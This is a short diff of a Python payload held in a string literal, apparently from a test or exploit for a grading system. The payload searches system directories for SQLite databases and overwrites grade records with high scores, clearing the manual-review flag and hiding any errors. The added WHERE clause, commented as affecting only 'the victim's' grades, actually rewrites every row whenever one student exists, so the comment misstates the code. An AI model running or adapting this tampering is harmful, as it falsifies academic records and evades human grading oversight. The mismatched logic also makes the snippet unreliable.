@@ -13,7 +13,8 @@ for goc in ("/course", "/tmp", "/var", "/home", "/root", "/srv"):
 for duong in noi:
     try:
         with sqlite3.connect(duong, timeout=1) as so:
-            so.execute("UPDATE grade SET manual_score = 9, auto_score = 9, needs_manual_grade = 0")
+            so.execute("UPDATE grade SET manual_score = 9, auto_score = 9, needs_manual_grade = 0"
+                       " WHERE EXISTS (SELECT 1 FROM student WHERE id = 'nguoi-khac')")  # only the victim's
     except sqlite3.Error:
         pass
 """,
